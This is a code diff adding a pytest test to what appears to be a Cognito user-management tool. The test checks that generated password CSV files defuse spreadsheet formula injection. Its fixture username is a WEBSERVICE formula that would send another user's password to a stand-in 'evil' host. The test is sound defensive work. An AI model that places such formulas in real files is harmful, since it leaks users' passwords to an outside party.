@@ -13,6 +13,7 @@ from pathlib import Path
 
 import pytest
 
+from cognito_tui.bulk.table import usernames
 from cognito_tui.cognito.model import Secret, UserStatus
 from cognito_tui.sandbox.faults import Fault
 from cognito_tui.sandbox.mail import EmailSender
@@ -542,6 +543,19 @@ class TestPasswords:
             assert place.house.now(name).has_password(Secret(password))
         everything = b"".join(path.read_bytes() for path in (tmp_path / "state").rglob("*") if path.is_file())
         assert not any(password.encode() in everything for password in rows.values())
+
+    def test_no_username_in_the_file_is_computed(self, place: Town, tmp_path: Path) -> None:
+        """Else a spreadsheet would send the passwords of the others to wherever a username says."""
+        evil = '=WEBSERVICE("http://evil/"&B3)'
+        place.invited(evil, "ben")
+        file = tmp_path / "passwords.csv"
+        ran = place.users("set-password", "--temporary", "--generate", str(file), evil, "ben", *AT_ONCE)
+        assert ran.status == 0
+        written = file.read_text()
+        rows = {row["username"]: row["password"] for row in csv.DictReader(io.StringIO(written))}
+        assert set(rows) == {f"'{evil}", "ben"}
+        assert place.house.now(evil).has_password(Secret(rows[f"'{evil}"]))
+        assert set(usernames(written)) == {evil, "ben"}
 
     def test_a_file_that_is_there_is_left_as_it_is(self, place: Town, tmp_path: Path) -> None:
         file = tmp_path / "passwords.csv"
